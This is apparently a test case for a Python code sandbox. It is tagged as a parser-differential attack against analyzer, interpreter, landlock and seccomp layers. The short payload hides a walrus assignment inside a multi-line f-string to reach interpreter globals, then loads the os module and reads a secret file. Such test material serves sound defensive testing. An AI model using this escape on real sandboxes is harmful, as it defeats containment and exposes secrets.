# class: parser differentials
# technique: a field over several lines, with a comment and a backslash
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
f"{'\n'.join([  # }
    (g := quit.__init__.__globals__) and ''
])}"
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
